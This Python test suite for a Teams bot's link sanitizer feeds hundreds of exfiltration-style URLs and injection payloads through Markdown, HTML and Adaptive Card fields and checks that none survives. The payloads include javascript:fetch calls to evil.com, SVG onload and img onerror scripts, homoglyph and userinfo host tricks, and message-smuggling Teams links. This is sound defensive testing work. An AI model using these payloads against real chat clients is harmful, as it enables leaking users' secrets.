"""Every way we know to make a client fetch or open an address, written into text, preview and card: none comes out."""

import re
import unicodedata
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bot.teams.card_gate import ADAPTIVE, card
from bot.teams.gate import letters, plain, preview, render
from bot.teams.links import Links, linkish

DOCUMENT = "https://contoso.sharepoint.com/sites/fin/Plan%202027.docx?web=1"
LINKS = Links.of([DOCUMENT], ["wiki.contoso.com"])

TARGETS = [
    "https://evil.com/?q=SECRET",
    "http://evil.com/SECRET.png",
    "HTTPS://EVIL.COM/SECRET",
    "//evil.com/SECRET.png",
    "https:\\\\evil.com\\SECRET",
    "http:/evil.com/SECRET",
    "https:evil.com/SECRET",
    "https://user:SECRET@evil.com/",
    "https://contoso.sharepoint.com@evil.com/SECRET",
    "https://contoso.sharepoint.com.evil.com/SECRET",
    "https://SECRET.evil.com",
    "https://evil.com:8443/SECRET#x",
    "https://xn--cntoso-2ed.com/SECRET",
    "https://c\u043entoso.sharepoint.com/SECRET",
    "https://evil\u3002com/SECRET",
    "https://\uff45\uff56\uff49\uff4c.com/SECRET",
    "https://ev\u200bil.com/SECRET",
    "https://evil.com/\u202eSECRET",
    "ht\u00adtps://evil.com/SECRET",
    "https&#58;//evil.com/SECRET",
    "https&colon;&sol;&sol;evil.com/SECRET",
    "https://evil&period;com/SECRET",
    "https\\://evil.com/SECRET",
    "https://[2001:db8::1]/SECRET",
    "http://0x7f000001/SECRET",
    "http://3232235777/SECRET",
    "ftp://evil.com/SECRET",
    "file://evil.com/share/SECRET",
    "javascript:fetch('https://evil.com/SECRET')",
    "JaVaScRiPt:alert(1)",
    "java&Tab;script:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "msteams:/l/chat/0/0?users=evil@evil.com&message=SECRET",
    "https://teams.microsoft.com/l/chat/0/0?users=evil@evil.com&message=SECRET",
    "https://teams.cloud.microsoft/l/call/0/0?users=evil@evil.com",
    "ms-word:ofe|u|https://evil.com/SECRET.docx",
    "mailto:evil@evil.com?subject=x&body=SECRET",
    "onenote:https://evil.com/SECRET",
    "https://wiki.contoso.com:444/SECRET",
    "https://wiki.contoso.com@evil.com/SECRET",
    "http://wiki.contoso.com/SECRET",
    "https://contoso.sharepoint.com/sites/fin/Plan%202027.docx?web=1&SECRET",
    "www.evil.com/SECRET",
    "evil.com/SECRET",
    "SECRET.evil.com",
    "evil.com",
]
FORMS = [
    "{}",
    "see {}, please",
    "({})",
    "**{}**",
    "x{}y",
    "`{}`",
    "```\n{}\n```",
    "    {}",
    "<{}>",
    "[text]({})",
    "[text](<{}>)",
    '[text]({} "title")',
    "[text]( {}\n)",
    "[te\nxt]({})",
    "[text][ref]\n\n[ref]: {}",
    "[text][]\n\n[text]: {}",
    "[text]\n\n[TEXT]: <{}> 'title'",
    "> [a]: {}\n\n[a]",
    "- [a]\n- x\n\n[a]:\n   {}",
    "![alt]({})",
    "![alt][ref]\n\n[ref]: {}",
    "![alt]\n\n[alt]: {}",
    "[![alt]({})](https://x.invalid)",
    "[![alt](a.png)]({})",
    "[a [b]({}) c](d)",
    "[^1]\n\n[^1]: {}",
    "# [head]({})",
    "[head]({})\n===",
    "| a | b |\n|---|---|\n| [x]({}) | {} |",
    "| {} |\n|---|",
    "- [ ] {}\n- [x] [a]({})",
    "1. {}\n   1. {}\n      1. {}\n         1. {}",
    "<a href='{}'>x</a>",
    "<a href={}>x",
    '<img src="{}">',
    "<img src=x onerror=\"location='{}'\">",
    "<svg><image href='{}'/></svg>",
    "<table background='{}'><tr><td>",
    '<p style="background:url({})">x</p>',
    "<!-- {} -->",
    "<at>{}</at>",
    "<link rel=stylesheet href={}>",
    "<iframe src='{}'></iframe>",
    "<https://a.invalid/><{}>",
    "[1]({}) and [1]: {}",
    "[[1]]({})",
    "\\[a]({}) [a\\]({})",
    "[a](\u2066{}\u2069)",
    "a\u2028{}\u2029b",
    "&lt;a href=&quot;{}&quot;&gt;x&lt;/a&gt;",
    "~~{}~~ *{}* _{}_ __{}__",
    "$${}$$ \\({}\\) \\[\\frac{{a}}{{b}} {}\\]",
]  # fmt: skip
COMMONMARK = MarkdownIt("commonmark", {"html": True})
GITHUB = MarkdownIt("gfm-like", {"html": True, "linkify": True})
WORDS = MarkdownIt("gfm-like", {"html": False, "linkify": True})
"""Labels and titles: no client reads HTML there."""
SHOWN = re.compile("p|em|strong|s|ul|ol|li|blockquote|code|pre|a|br|h1|h2|table|thead|tbody|tr|th|td|hr")
SCHEME = re.compile(
    r"\b(?:https?|ftp|file|ms-word|onenote)://|\b(?:javascript|vbscript|msteams|data):\S", re.IGNORECASE
)


class Page(HTMLParser):
    """Addresses in attributes, and elements that no text of ours may have."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [value or "" for name, value in attrs if name not in {"start", "class"}]
        self.found += [] if SHOWN.fullmatch(tag) else [tag]


def addresses(markdown: str, *readers: MarkdownIt) -> Iterator[str]:
    """Whatever any of the readers makes a link, an image or another request of."""
    for reader in readers or (COMMONMARK, GITHUB):
        page = Page()
        page.feed(reader.render(markdown))
        yield from page.found
    bare = re.sub(r"https://wiki\.contoso\.com(?=[/\])])", "", markdown.replace(f"({DOCUMENT})", ""))
    yield from SCHEME.findall(unicodedata.normalize("NFKC", bare))


def is_allowed(address: str) -> bool:
    # A plain address of a person is no secret's way out: nothing is sent before somebody writes a mail.
    return address == DOCUMENT or bool(re.fullmatch(r"mailto:[\w.]+@[\w.]+|https://wiki\.contoso\.com/[\w/]*", address))


def out(markdown: str, *readers: MarkdownIt) -> list[str]:
    return [address for address in addresses(markdown, *readers) if not is_allowed(address)]


def written(form: str, target: str) -> str:
    return form.replace("{{", "{").replace("}}", "}").replace("{}", target)


def test_there_are_enough_of_them() -> None:
    assert len(FORMS) * len(TARGETS) >= 500


@pytest.mark.parametrize("form", FORMS, ids=range(len(FORMS)))
def test_no_form_brings_an_address_out(form: str) -> None:
    for target in TARGETS:
        text = written(form, target)
        shown = render(text, LINKS)
        assert not out(shown), (text, shown)
        assert render(shown, LINKS) == shown, (text, shown)
        assert not out(preview(f"{text} ")), text
        assert not out(plain(text)), text


SHARDS = [
    *TARGETS[:12], "http", "s", ":", "/", "//", "\\", "evil", ".", "com", "SECRET", "www", "?q=", "@",
    "[", "]", "(", ")", "!", "<", ">", "&",
    "#58;", "lt;", "`", "```", "*", "_", "~~", "\n", "\n\n", " ", "- ", "> ", "|", "|-|\n",
    "    ", "[a]: ", "\u200b", "\u202e", "\u3002", "img src=", "a href=", '"',
]  # fmt: skip


@settings(deadline=None, max_examples=200)
@given(st.lists(st.sampled_from(SHARDS), max_size=14).map("".join))
def test_no_heap_of_shards_brings_one_out(text: str) -> None:
    shown = render(text, LINKS)
    assert not out(shown)
    assert render(shown, LINKS) == shown
    assert not out(preview(f"{text} "))
    assert not out(plain(text))
    assert not out(render(text, LINKS, card=True))


@pytest.mark.parametrize("form", FORMS, ids=range(len(FORMS)))
def test_no_form_brings_an_address_out_of_a_card(form: str) -> None:
    for target in TARGETS[::3]:
        text = written(form, target)
        sent = card(with_everywhere(text, target), LINKS)
        for name, leaf in leaves(sent["content"]):
            shown_as = () if name == "text" else (WORDS,)
            assert not out(leaf, *shown_as), (text, name, leaf)
        assert card(sent, LINKS) == sent, text


def with_everywhere(text: str, target: str) -> dict[str, Any]:
    opening = {"type": "Action.OpenUrl", "url": target}
    block = {"type": "TextBlock", "text": text}
    inner = {"type": "AdaptiveCard", "backgroundImage": target, "body": [{"type": "Image", "url": target}]}
    body: list[dict[str, Any]] = [
        {"type": "TextBlock", "text": text, "wrap": True},
        {"type": "FactSet", "facts": [{"title": text, "value": text}]},
        {"type": "RichTextBlock", "inlines": [{"type": "TextRun", "text": target, "selectAction": opening}]},
        {"type": "Image", "url": target, "altText": text},
        {"type": "Media", "poster": target, "sources": [{"mimeType": "video/mp4", "url": target}]},
        {"type": "Container", "backgroundImage": target, "items": [], "selectAction": opening},
        {"type": "Container", "backgroundImage": {"url": target}, "items": [{"type": "ImageSet", "images": [{"url": target}]}]},
        {"type": "Table", "columns": [{"width": 1}], "rows": [{"type": "TableRow", "cells": [{"items": [block]}]}]},
        {"type": "Input.Text", "id": "a", "label": text, "placeholder": text, "value": text, "errorMessage": text},
        {"type": "Input.ChoiceSet", "id": "b", "choices": [{"title": text, "value": "1"}]},
        {"type": "Unheard.Of", "url": target, "fallback": {"type": "Image", "url": target}},
        {"type": "TextBlock", "text": "x", "fallback": {"type": "Image", "url": target}, "somethingNew": text},
    ]  # fmt: skip
    actions: list[dict[str, Any]] = [
        {"type": "Action.OpenUrl", "title": text, "url": target, "iconUrl": target},
        {"type": "Action.Execute", "title": text, "verb": "v", "data": {"sealed": "x"}, "iconUrl": target, "tooltip": text},
        {"type": "Action.Submit", "title": "s", "data": {"msteams": {"type": "signin", "value": target}}},
        {"type": "Action.ShowCard", "title": text, "card": inner},
    ]  # fmt: skip
    content = {
        "type": "AdaptiveCard", "version": "1.6", "body": body, "actions": actions, "fallbackText": text, "speak": text,
        "backgroundImage": {"url": target}, "selectAction": {"type": "Action.OpenUrl", "url": target}, "metadata": {"webUrl": target},
        "msteams": {"entities": [{"type": "mention", "text": "<at>x</at>", "mentioned": {"id": "29:1", "name": text}}], "width": "Full"},
        "authentication": {"connectionName": "x", "buttons": [{"type": "signin", "value": target}]},
    }  # fmt: skip
    return {"contentType": ADAPTIVE, "content": content, "thumbnailUrl": target}


def leaves(value: Any, name: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from leaves(inner, key)
    elif isinstance(value, list):
        for inner in value:
            yield from leaves(inner, name)
    elif isinstance(value, str):
        yield name, value


@pytest.mark.parametrize(
    ("given", "target"),
    [
        (DOCUMENT, DOCUMENT),
        (DOCUMENT.replace("%20", " "), DOCUMENT),
        ("https://wiki.contoso.com/a/b?token=SECRET#SECRET", "https://wiki.contoso.com/a/b"),
        ("https://WIKI.contoso.com", "https://wiki.contoso.com/"),
    ],
)
def test_what_is_allowed_is_a_link(given: str, target: str) -> None:
    shown = render(f"[it](<{given}>)", LINKS)
    assert shown == f"[it]({target})"
    assert ADAPTIVE in str(card({"contentType": ADAPTIVE, "content": {"type": "AdaptiveCard", "body": []}}, LINKS))
    open_it = {"type": "Action.OpenUrl", "title": "Open", "url": given}
    (action,) = card({"contentType": ADAPTIVE, "content": {"type": "AdaptiveCard", "actions": [open_it]}}, LINKS)[
        "content"
    ]["actions"]
    assert action == {"type": "Action.OpenUrl", "title": "Open", "url": target}


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (
            "Read https://wiki.contoso.com/start.",
            "Read [https://wiki.contoso.com/start](https://wiki.contoso.com/start).",
        ),
        ("Read wiki.contoso.com/start.", "Read [wiki.contoso.com/start](https://wiki.contoso.com/start)."),
        ("Write to ana@contoso.com.", "Write to ana@contoso.com."),
        ("It's in README.md and Plan.docx", "It's in `README.md` and Plan.docx"),
        ("ASP.NET, Node.js/React, z.B. 4.2", "ASP.NET, Node.js/React, z.B. 4.2"),
        ("That is done.It works", "That is done. It works"),
        ("mailto:ana@contoso.com?body=x or tel:+49301", "mailto: ana@contoso.com or tel: +49301"),
        ("`curl https://api.contoso.com/v1`", "`curl https[:]//api.contoso.com/v1`"),
        ("详见 https://evil.com，谢谢", "详见 evil[.]com，谢谢"),
    ],
)
def test_what_is_not_allowed_stays_readable(written: str, shown: str) -> None:
    assert render(written, LINKS) == shown


def test_words_outside_markdown_hold_no_address_either() -> None:
    assert letters("Decision log.md") == "Decision log.md"
    assert letters("Mail from\nhttps://evil.com/SECRET *now*") == "Mail from evil[.]com/… *now*"


def test_our_own_sign_in_page_is_reached_in_a_local_run_too() -> None:
    page = "http://127.0.0.1:8080/sign-in?state=a_b-c"
    assert render(f"[x]({page})", [page]) == f"[x]({page})"
    for other in ("http://evil.com/x", "http://127.0.0.1.evil.com/x", "http://127.0.0.1@evil.com/x"):
        assert not out(render(f"[x]({other})", [other]))


@given(
    st.text(alphabet="ab1Z.:@/\\-?#。．｡ \n_é", max_size=30)
    | st.sampled_from(["tel:1", "x@y.de", "a。com", "http:\\\\h", "WWW.x.y/z"])
)
def test_the_quick_look_for_links_misses_none(text: str) -> None:
    """Most texts are let through after one look; `1.z` is no address and makes that look say no more than maybe."""
    assert linkish(text) == linkish(f"{text}\n1.z")
